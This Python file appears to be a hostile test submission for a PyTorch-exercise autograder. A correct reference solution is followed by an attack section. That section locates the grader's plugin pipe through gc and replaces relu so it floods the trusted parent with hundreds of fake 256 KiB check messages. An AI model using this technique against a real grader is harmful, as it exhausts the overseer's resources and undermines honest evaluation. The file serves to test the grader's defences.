"""Hostile submission: makes the trusted parent hold gigabytes by sending thousands of check values.

Attack: a correct solution whose `relu` sends 800 well-formed check messages of 256 KiB each for the
test being run (indices 1000 and up, which no golden value has) through the grader's channel (the
child plugin's pipe, found with `gc`), then returns the right answer. Kept without bound, they cost
the parent 200 MB; a real attack would keep going for the whole time limit.
Outcome it must get: the parent's memory does not grow by the size of the flood (less than half
of it), and no test but relu's is affected.
"""

# ==================================================================================================
# A correct solution (the reference's code)
# ==================================================================================================

import numpy as np
import torch
from torch import nn

# Building the first optimizer imports a large part of torch (seconds): done while loading, so
# that the tests' own time limits measure the tests.
torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=0.1)

# Part 1 — Tensors ----------------------------------------------------------------------------


def tensor_info(x: torch.Tensor) -> tuple:
    return x.ndim, tuple(int(s) for s in x.shape), x.dtype


def to_float32(x: torch.Tensor) -> torch.Tensor:
    return x.to(torch.float32)


def stack_images(images: list) -> torch.Tensor:
    if len(images) == 0:
        raise ValueError("stack_images needs at least one image")
    shape = images[0].shape
    for i, image in enumerate(images):
        if image.shape != shape:
            raise ValueError(f"image {i} has shape {tuple(image.shape)}, image 0 has {tuple(shape)}")
    return torch.stack(list(images))


def flatten_images(x: torch.Tensor) -> torch.Tensor:
    return x.reshape(x.shape[0], -1)


def channels_last(x: torch.Tensor) -> torch.Tensor:
    return x.permute(0, 2, 3, 1)


def horizontal_flip(x: torch.Tensor) -> torch.Tensor:
    return x.flip(-1)


def concat_features(a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    return torch.cat([a, b], dim=1)


def batched_affine(X: torch.Tensor, W: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    return X @ W.T + b


def relu(x: torch.Tensor) -> torch.Tensor:
    return x.clamp(min=0)


def numpy_bridge(a: np.ndarray) -> torch.Tensor:
    return torch.from_numpy(a)


def pick_device() -> torch.device:
    if torch.cuda.is_available():
        return torch.device("cuda")
    if torch.backends.mps.is_available():
        return torch.device("mps")
    return torch.device("cpu")


# Part 2 — Autograd ---------------------------------------------------------------------------


def grad_f(x: float, y: float) -> torch.Tensor:
    xt = torch.tensor(float(x), dtype=torch.float32, requires_grad=True)
    yt = torch.tensor(float(y), dtype=torch.float32, requires_grad=True)
    f = xt**2 + yt
    f.backward()
    return torch.stack([xt.grad, yt.grad])


def accumulated_grad(x: float, y: float) -> torch.Tensor:
    xt = torch.tensor(float(x), dtype=torch.float32, requires_grad=True)
    yt = torch.tensor(float(y), dtype=torch.float32, requires_grad=True)
    (xt**2 + yt).backward()
    (xt * (yt + 3)).backward()
    return torch.stack([xt.grad, yt.grad])


def grad_of(fn, *points: torch.Tensor) -> tuple:
    leaves = [p.detach().clone().requires_grad_(True) for p in points]
    out = fn(*leaves)
    grads = torch.autograd.grad(out, leaves, allow_unused=True)
    return tuple(torch.zeros_like(p) if g is None else g for p, g in zip(leaves, grads, strict=True))


def numerical_grad(fn, x: torch.Tensor, eps: float = 1e-3) -> torch.Tensor:
    x = x.detach()
    grad = torch.empty(x.numel(), dtype=x.dtype, device=x.device)
    for i in range(x.numel()):
        step = torch.zeros(x.numel(), dtype=x.dtype, device=x.device)
        step[i] = eps
        step = step.reshape(x.shape)
        grad[i] = (fn(x + step) - fn(x - step)) / (2 * eps)
    return grad.reshape(x.shape)


# Part 3 — Models -----------------------------------------------------------------------------


class LinearModel(nn.Module):

    def __init__(self, d_in: int, d_out: int) -> None:
        super().__init__()
        self.linear = nn.Linear(d_in, d_out)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.linear(x)


class MLP(nn.Module):

    def __init__(self, d_in: int, d_hidden: int, d_out: int, activation: str = "relu") -> None:
        super().__init__()
        if activation not in ("relu", "sigmoid", "tanh"):
            raise ValueError(f"activation must be 'relu', 'sigmoid' or 'tanh', not {activation!r}")
        self.activation = activation
        self.hidden = nn.Linear(d_in, d_hidden)
        self.output = nn.Linear(d_hidden, d_out)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        h = self.hidden(x)
        if self.activation == "relu":
            h = h.clamp(min=0)
        elif self.activation == "sigmoid":
            h = torch.sigmoid(h)
        else:
            h = torch.tanh(h)
        return self.output(h)


def count_parameters(model: nn.Module) -> int:
    return sum(p.numel() for p in model.parameters() if p.requires_grad)


def samples_needed(model: nn.Module) -> int:
    return 10 * count_parameters(model)


# Part 4 — Losses -----------------------------------------------------------------------------
# Forbidden in this part: torch's own softmax, log_softmax, one_hot and loss functions
# (functional or nn.Module): write them with elementary tensor operations.


def softmax(z: torch.Tensor, dim: int = -1) -> torch.Tensor:
    shifted = z - z.amax(dim=dim, keepdim=True)
    e = shifted.exp()
    return e / e.sum(dim=dim, keepdim=True)


def mse_loss(pred: torch.Tensor, target: torch.Tensor) -> torch.Tensor:
    return ((pred - target) ** 2).sum() / pred.shape[0]


def cross_entropy(logits: torch.Tensor, targets: torch.Tensor) -> torch.Tensor:
    picked = logits.gather(1, targets.unsqueeze(1)).squeeze(1)
    return (torch.logsumexp(logits, dim=1) - picked).mean()


def kl_divergence(p: torch.Tensor, q: torch.Tensor) -> torch.Tensor:
    terms = torch.where(p > 0, p * (p.log() - q.log()), torch.zeros_like(p))
    return terms.sum(dim=1).mean()


def one_hot(targets: torch.Tensor, num_classes: int) -> torch.Tensor:
    classes = torch.arange(num_classes, device=targets.device)
    return (targets.unsqueeze(1) == classes).to(torch.float32)


def hinge_loss(scores: torch.Tensor, targets: torch.Tensor, margin: float = 1.0) -> torch.Tensor:
    true_scores = scores.gather(1, targets.unsqueeze(1))
    margins = (scores - true_scores + margin).clamp(min=0)
    is_true = torch.arange(scores.shape[1], device=scores.device) == targets.unsqueeze(1)
    margins = margins.masked_fill(is_true, 0)
    return margins.sum(dim=1).mean()


# Part 5 — Training ---------------------------------------------------------------------------


def gd_step(params, lr: float) -> None:
    with torch.no_grad():
        for p in params:
            if p.grad is None:
                continue
            p -= lr * p.grad
            p.grad.zero_()


def minibatches(X: torch.Tensor, y: torch.Tensor, batch_size: int, *, shuffle: bool = False, generator=None):
    n = X.shape[0]
    order = torch.randperm(n, generator=generator) if shuffle else torch.arange(n)
    for start in range(0, n, batch_size):
        idx = order[start : start + batch_size]
        yield X[idx], y[idx]


def train(
    model: nn.Module,
    X: torch.Tensor,
    y: torch.Tensor,
    *,
    loss_fn,
    epochs: int,
    batch_size: int,
    lr: float,
    optimizer: str = "sgd",
    accumulation_steps: int = 1,
    shuffle: bool = True,
    generator=None,
) -> list:
    if optimizer == "sgd":
        opt = torch.optim.SGD(model.parameters(), lr=lr)
    elif optimizer == "adam":
        opt = torch.optim.Adam(model.parameters(), lr=lr)
    else:
        raise ValueError(f"optimizer must be 'sgd' or 'adam', not {optimizer!r}")
    model.train()
    history = []
    for _ in range(epochs):
        opt.zero_grad()
        losses = []
        pending = 0
        for Xb, yb in minibatches(X, y, batch_size, shuffle=shuffle, generator=generator):
            loss = loss_fn(model(Xb), yb)
            (loss / accumulation_steps).backward()
            losses.append(loss.item())
            pending += 1
            if pending == accumulation_steps:
                opt.step()
                opt.zero_grad()
                pending = 0
        if pending:
            opt.step()
            opt.zero_grad()
        history.append(sum(losses) / len(losses))
    return history


def accuracy(model: nn.Module, X: torch.Tensor, y: torch.Tensor) -> float:
    was_training = model.training
    model.eval()
    try:
        with torch.no_grad():
            predicted = model(X).argmax(dim=1)
        return (predicted == y).to(torch.float64).mean().item()
    finally:
        model.train(was_training)


# ==================================================================================================
# The attack
# ==================================================================================================

import gc

gc.unfreeze()  # the grader freezes what it imported before a submission runs: let gc see it all again
import json
import os

_correct_relu = relu


def _channel_fds():
    return [obj.fd for obj in gc.get_objects() if type(obj).__name__ == "ChildPlugin"]


def relu(x: torch.Tensor) -> torch.Tensor:
    test_id = os.environ.get("PYTEST_CURRENT_TEST", "").rsplit(" (", 1)[0]
    filler = "x" * (256 << 10)
    for fd in _channel_fds():
        for i in range(800):
            line = json.dumps({"t": "check", "id": test_id, "i": 1000 + i, "v": {"k": "str", "v": filler}}) + "\n"
            view = memoryview(line.encode())
            while view:
                view = view[os.write(fd, view):]
    return _correct_relu(x)
